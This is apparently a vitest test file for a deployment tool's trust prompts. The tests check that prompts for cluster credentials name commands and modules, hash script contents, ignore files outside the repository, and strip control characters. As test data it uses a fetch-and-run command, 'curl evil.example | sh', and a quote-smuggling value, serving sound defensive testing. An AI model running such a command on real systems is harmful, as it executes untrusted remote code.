/** What is trusted with a cluster: everything of the repository's that gets the user's credentials there. */
import { mkdtempSync, rmSync, writeFileSync, mkdirSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { clusterAsk, describeAsk, digestOfAsks } from "../../../src/trust/index.ts";

type Config = Parameters<typeof clusterAsk>[2];

const config = (apply: string, more: Partial<Config> = {}): Config => ({
  module: "fastloop",
  deploy: { environments: {}, apps: { tool: { custom: { apply, delete: "sh gone.sh", inputs: ["tool/"] } } } },
  ...more,
});
const root = mkdtempSync(path.join(tmpdir(), "fastloop-cluster-"));
beforeAll(() => mkdirSync(path.join(root, ".git")));
afterAll(() => rmSync(root, { recursive: true }));
const place = { root, env: { HOME: "/nowhere" } };
const of = (given: Config, context: string | undefined = "kind-shop"): string =>
  clusterAsk("dev", context, given, place).what;

test("an ask names the text of commands, so that another one asks again", () => {
  expect(of(config("sh tool.sh {env}"))).toBe(
    "kind-shop by commands of tool (apply: 'sh tool.sh {env}', delete: 'sh gone.sh')",
  );
  const digest = (apply: string): string => digestOfAsks([clusterAsk("dev", "kind-shop", config(apply), place)]);
  expect(digest("sh tool.sh")).not.toBe(digest("curl evil.example | sh"));
  // A command cannot read as two.
  expect(of(config("a', delete: 'b"))).not.toBe(of(config("a")));
});

test("an ask names the module that gets the kubeconfig, unless it is fastloop's own", () => {
  const deploy: Config["deploy"] = { environments: {}, apps: { web: { manifests: ["web/"] } } };
  expect(of({ module: "fastloop", deploy })).toBe("kind-shop");
  expect(of({ module: "ci", deploy })).toBe("kind-shop through the module ci");
  expect(of({ deploy })).toBe("kind-shop through its own module");
});

test.each([
  ["its own script", "sh tool.sh", "tool.sh"],
  ["a script in quotes", "sh 'a tool.sh'", "a tool.sh"],
  ["a script of a folder that it enters", "cd tools && sh ./in.sh", "tools/in.sh"],
  ["a script behind a link", "sh link.sh", "target.sh"],
])("an ask covers the content of %s", (_what, apply, file) => {
  mkdirSync(path.join(root, "tools"), { recursive: true });
  rmSync(path.join(root, "link.sh"), { force: true });
  symlinkSync("target.sh", path.join(root, "link.sh"));
  writeFileSync(path.join(root, file), "kubectl apply");
  const first = of(config(apply));
  expect(first).toMatch(/ with \S.* sha256:[0-9a-f]{16}, delete: /);
  expect(of(config(apply))).toBe(first);
  writeFileSync(path.join(root, file), "curl evil.example | sh");
  expect(of(config(apply))).not.toBe(first);
});

test("an ask does not read what is outside of the repository", () => {
  const outside = mkdtempSync(path.join(tmpdir(), "fastloop-outside-"));
  writeFileSync(path.join(outside, "private"), "x");
  symlinkSync(path.join(outside, "private"), path.join(root, "leads-out"));
  expect(of(config(`sh ${outside}/private; sh leads-out`))).not.toContain("sha256");
  rmSync(outside, { recursive: true });
});

test("what a repository names is quoted in an ask, and printed without control characters", () => {
  const named = (module: string, image: string, context?: string): string =>
    of({ module, deploy: { environments: {}, apps: {}, image } }, context);
  expect(named("ci in the image alpine", "x\u001b[2Jy", "a b")).toBe(
    "'a b' through the module 'ci in the image alpine' in the image 'x\u001b[2Jy'",
  );
  expect(named("ci", "alpine", "of this machine")).not.toBe(clusterAsk("dev", undefined, { module: "ci" }, place).what);
  const ask = clusterAsk("dev", "x\u001b[2J", { module: "\u009b1A" }, place);
  expect(describeAsk(ask)).not.toMatch(/\p{Cc}/u);
});

test("a configuration with a million words is looked at in no time", () => {
  const before = process.cpuUsage();
  of(config(Array.from({ length: 500_000 }, (_, index) => `w${index}`).join(" ")));
  expect(process.cpuUsage(before).user).toBeLessThan(6_000_000);
});
